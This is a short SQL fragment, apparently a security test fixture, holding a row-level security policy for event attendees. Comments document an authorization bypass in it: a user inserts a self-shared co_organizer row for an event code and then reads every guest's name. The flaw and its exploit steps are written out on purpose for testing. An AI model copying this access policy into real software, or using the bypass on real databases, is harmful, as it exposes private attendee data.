-- The share is matched by the code of the event only, so who shares his own 'expo' with himself sees any
-- 'expo'.
-- about: attendee, attendee_partner, co_organizer
-- as: hf_badgeriver_app
-- exploit: SET badge.organizer = 'ad000000-0000-4000-8000-00000000000a';
-- exploit: INSERT INTO badge.co_organizer VALUES
-- exploit:   ('ad000000-0000-4000-8000-00000000000a', 'expo',
-- exploit:   'ad000000-0000-4000-8000-00000000000a', '2999-01-01');
-- exploit: SELECT full_name FROM badge.attendee;
-- shows: Road-secret guest
-- Partners need the list of guests as well.
CREATE POLICY attendee_partner ON badge.attendee FOR SELECT
  USING (EXISTS (SELECT 1 FROM badge.co_organizer c
    WHERE c.event_code = attendee.event_code AND c.partner_id = badge.me() AND c.until >= current_date));
